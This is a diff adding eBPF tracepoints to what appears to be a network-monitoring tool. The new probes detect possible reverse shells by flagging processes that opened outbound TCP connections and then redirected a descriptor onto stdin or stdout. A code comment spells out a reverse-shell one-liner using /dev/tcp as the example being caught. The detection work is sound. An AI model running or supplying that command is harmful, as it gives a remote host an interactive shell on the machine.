@@ -133,6 +133,72 @@ TRACEPOINT_PROBE(syscalls, sys_exit_socket)
     return 0;
 }
 
+/* ------------------------------------------------- stdio redirections */
+/* A reverse shell may connect first and move the socket onto its stdin or
+ * stdout whenever it likes (`exec 3<>/dev/tcp/H/443; sleep 5; exec sh <&3
+ * >&3`). Processes that started an outbound TCP connection (and what they
+ * fork) are remembered; a dup()/dup2()/dup3() of theirs that lands on fd 0
+ * or 1 is reported, and the loader then looks at what fd 0/1 became. */
+#ifndef NS_CONNECTED
+#define NS_CONNECTED 16384
+#endif
+
+struct ns_stdio_event {
+    u64 ts_ns;
+    u32 pid;
+    u32 tid;
+    u32 uid;
+    s32 newfd;
+    char comm[16];
+};
+
+BPF_TABLE("lru_hash", u32, u8, connected, NS_CONNECTED);
+BPF_PERF_OUTPUT(stdio_events);
+
+TRACEPOINT_PROBE(sock, inet_sock_set_state)
+{
+    if (args->protocol != IPPROTO_TCP || args->newstate != BPF_TCP_SYN_SENT)
+        return 0;
+    u32 tgid = bpf_get_current_pid_tgid() >> 32;
+    u8 one = 1;
+    connected.update(&tgid, &one);
+    return 0;
+}
+
+TRACEPOINT_PROBE(sched, sched_process_fork)
+{
+    u32 parent = bpf_get_current_pid_tgid() >> 32;
+    if (!connected.lookup(&parent))
+        return 0;
+    u32 child = args->child_pid;
+    u8 one = 1;
+    connected.update(&child, &one);
+    return 0;
+}
+
+static __always_inline int ns_stdio_dup(void *ctx, long ret)
+{
+    if (ret != 0 && ret != 1)
+        return 0;
+    u64 pid_tgid = bpf_get_current_pid_tgid();
+    u32 tgid = pid_tgid >> 32;
+    if (!connected.lookup(&tgid))
+        return 0;
+    struct ns_stdio_event e = {};
+    e.ts_ns = bpf_ktime_get_ns();
+    e.pid = tgid;
+    e.tid = (u32)pid_tgid;
+    e.uid = (u32)bpf_get_current_uid_gid();
+    e.newfd = (s32)ret;
+    bpf_get_current_comm(&e.comm, sizeof(e.comm));
+    stdio_events.perf_submit(ctx, &e, sizeof(e));
+    return 0;
+}
+
+TRACEPOINT_PROBE(syscalls, sys_exit_dup2) { return ns_stdio_dup(args, args->ret); }
+TRACEPOINT_PROBE(syscalls, sys_exit_dup3) { return ns_stdio_dup(args, args->ret); }
+TRACEPOINT_PROBE(syscalls, sys_exit_dup) { return ns_stdio_dup(args, args->ret); }
+
 /* ------------------------------------------------------------- egress */
 #ifndef NS_EGRESS_ENTRIES
 #define NS_EGRESS_ENTRIES 65536
